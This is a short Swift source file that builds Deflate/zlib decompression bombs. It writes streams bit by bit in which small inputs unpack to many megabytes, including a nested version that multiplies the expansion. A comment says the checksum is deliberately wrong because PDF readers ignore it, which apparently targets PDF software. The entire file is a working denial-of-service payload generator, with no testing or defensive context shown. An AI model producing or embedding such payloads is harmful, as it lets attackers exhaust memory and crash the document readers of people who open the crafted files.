/// A Flate stream that unpacks to very many spaces, written bit by bit (RFC 1950, RFC 1951, fixed Huffman codes).
enum FlateBomb {
    /// Unpacks to about 250 spaces for every 13 bits: a hundred kilobytes become sixteen megabytes.
    static func once(bytes: Int) -> [UInt8] {
        var stream = BitStream()
        stream.literal(0x20)
        for _ in 0..<(bytes * 8 / 13) { stream.longestMatch(distance: 1) }
        return stream.finished()
    }

    /// A stream within a stream: the inner one repeats every thirteen bytes, so that it packs as well as the spaces do.
    static func twice(bytes: Int) -> [UInt8] {
        let inner = once(bytes: 4096)
        var stream = BitStream()
        for byte in inner.prefix(64) { stream.literal(byte) }
        for _ in 0..<(bytes * 8 / 15) { stream.longestMatch(distance: 13) }
        return stream.finished()
    }

    private struct BitStream {
        private var bytes: [UInt8] = [0x78, 0x9C]
        private var held: UInt32 = 0
        private var count = 0

        init() { put(0b011, 3) }

        mutating func literal(_ byte: UInt8) {
            if byte < 144 { putCode(UInt32(byte) + 0x30, 8) } else { putCode(UInt32(byte) - 144 + 0x190, 9) }
        }

        /// 258 bytes from this far back.
        mutating func longestMatch(distance: Int) {
            putCode(0b1100_0101, 8)
            if distance == 1 {
                putCode(0, 5)
            } else {
                precondition(distance == 13)
                // Code 7 and two extra bits stand for the distances 13 to 16.
                putCode(7, 5)
                put(0, 2)
            }
        }

        mutating func finished() -> [UInt8] {
            putCode(0, 7)
            put(0, (8 - count % 8) % 8)
            // The checksum is wrong on purpose: readers of PDF do not look at it.
            return bytes + [0, 0, 0, 0]
        }

        /// Huffman codes go in from their highest bit.
        private mutating func putCode(_ code: UInt32, _ length: Int) {
            for bit in stride(from: length - 1, through: 0, by: -1) { put(code >> UInt32(bit) & 1, 1) }
        }

        private mutating func put(_ value: UInt32, _ length: Int) {
            held |= value << UInt32(count)
            count += length
            while count >= 8 {
                bytes.append(UInt8(held & 0xFF))
                held >>= 8
                count -= 8
            }
        }
    }
}
